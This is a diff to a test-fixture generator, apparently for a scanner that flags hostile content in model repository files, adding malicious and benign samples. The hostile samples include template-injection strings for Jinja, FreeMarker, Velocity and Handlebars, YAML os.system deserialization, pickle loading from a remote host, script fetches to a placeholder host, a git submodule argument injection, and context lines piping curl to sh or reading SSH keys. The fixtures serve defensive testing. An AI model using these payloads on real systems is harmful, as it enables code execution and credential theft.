@@ -71,6 +71,8 @@ def settings() -> Iterator[Sample]:
         yield "config.yaml", text.encode()
     for value in (
         {"hidden_act": "os.system"},
+        {"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]},
+        {"_type": "llm_bash_chain", "llm": {}},
         {"type": "subprocess.Popen", "args": "echo"},
         {"entry_point": "os:system"},
         {"function": {"__module__": "os", "__name__": "system"}},
@@ -124,6 +126,7 @@ def settings() -> Iterator[Sample]:
         "{{ x['class'.center(9, u)] }}",
         "{{ [x]|map(attribute=k)|list }}",
         "{{ [x]|groupby(k) }}",
+        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
     ):
         yield "chat_template.jinja", made.encode()
 
@@ -190,6 +193,15 @@ def source() -> Iterator[Sample]:
     yield "a.ipynb", notebook("get_ipython().run_line_magic('sx', 'curl http://host | sh')")
     yield "a.ipynb", notebook("x = !cat ~/.ssh/id_rsa")
     yield "a.ipynb", notebook("x = 1\n" * 200_000)
+    yield (
+        "a.ipynb",
+        notebook(
+            "x", text_html='<iframe srcdoc="<script>fetch(&quot;https://host/&quot;)</script>"></iframe>'
+        ),
+    )
+    yield "a.ipynb", notebook("x", text_html="<!-- plotly --><script src='https://host/x.js'></script>")
+    yield "a.ipynb", notebook("import pickle, requests\npickle.loads(requests.get('https://host/x').content)")
+    yield ".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'
     yield "a.ipynb", notebook("%env LD_PRELOAD=/tmp/x.so")
     yield "a.ipynb", notebook("%%perl\nsystem('echo')")
     yield "a.ipynb", notebook("HTML('<script>fetch(\"http://host/\" + document.cookie)</script>')")
@@ -261,6 +273,25 @@ def markup() -> Iterator[Sample]:
     ):
         yield "report.html", text.encode()
         yield "README.md", f"# A model\n{text}".encode()
+    for text in (
+        "[x](javascript:alert(1))",
+        "[x][a]\n\n[a]: data:text/html;base64,PHNjcmlwdD4=",
+        "<?php system('echo'); ?>",
+        "<x:value-of select=\"php:function('system', 'echo')\"/>",
+    ):
+        yield "README.md", f"# A model\n{text}\n".encode()
+    yield "README.md", b'---\nlicense: mit\na: !!python/object/apply:os.system ["echo"]\n---\n# A model\n'
+    yield "a.xsl", b"<?xml version='1.0'?><x select=\"php:function('system', 'echo')\"/>"
+    agent = b"<dict><key>ProgramArguments</key><array><string>sh</string></array></dict>"
+    yield "a.plist", b"<?xml version='1.0'?><plist>" + agent + b"</plist>"
+    for text in (
+        '<#assign a="freemarker.template.utility.Execute"?new()>${a("echo")}',
+        '#set($a = $b.getClass().forName("java.lang.Runtime"))',
+        "<%= `echo` %>",
+        '{{#with "s" as |a|}}{{lookup a "constructor"}}{{/with}}',
+        "- global.process.mainModule.require('child_process')",
+    ):
+        yield "page.ftl", text.encode()
 
 
 def programs() -> Iterator[Sample]:
@@ -319,6 +350,14 @@ HOSTILE = (settings, installs, source, tables, documents, markup, programs, mode
 
 
 def honest() -> Iterator[Sample]:
+    yield (
+        "README.md",
+        b"---\nlicense: mit\n---\n# Model\n`<?php` and [a](https://host/javascript:x) `[x](javascript:a)`\n",
+    )
+    yield "model_index.json", b'{"_class_name": "FluxPipeline", "vae": ["diffusers", "AutoencoderKL"]}'
+    yield "prompt.json", b'{"_type": "prompt", "template": "Tell {a}", "input_variables": ["a"]}'
+    yield "a.plist", b"<?xml version='1.0'?><plist><dict><key>Name</key><string>a</string></dict></plist>"
+    yield "page.ftl", b"<% if a %><%= a.system_name %>{{lookup a 'b'}}<% end %>"
     yield "a.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1L,)}")
     yield "a.pdf", pdf(b"<</AcroForm<</Fields[]>>>>")
     yield "config.yaml", b"x: &a torch.optim.AdamW\nm:\n  _target_: *a\n  lr: 0.1\n"
@@ -378,7 +417,9 @@ def honest() -> Iterator[Sample]:
     yield "a.rtf", rb"{\rtf1 Hello}"
     yield "model.py", b"x = [" + b"1," * 40_000 + b"]\n"
     yield "prompt.md", b"{{ a }}" * 10_000
+    yield ".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://github.com/org/x\n'
     for kept in (
+        "{% for a in range(9999) %}x{% endfor %}{% for b in range(9999) %}{% endfor %}",
         "{% set i = messages|length - 1 - loop.index0 %}{{ messages[i].content }}",
         "{% set role = m.role|lower %}{{ roles[role] }}",
         "{% for key, value in a.items() %}{{ a[key] }}{% endfor %}",
@@ -401,3 +442,5 @@ def honest() -> Iterator[Sample]:
     yield "weights.bin", bytes(range(256)) * 64
     yield "a.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\3a.csv\0" + gzip.compress(b"1,2\n")[10:]
     yield "config.json", layer("Dense", units=2)
+    adam = {"module": "keras.src.backend.torch.optimizers.torch_adam", "class_name": "Adam", "config": {}}
+    yield "config.json", json.dumps({"compile_config": {"optimizer": adam}}).encode()
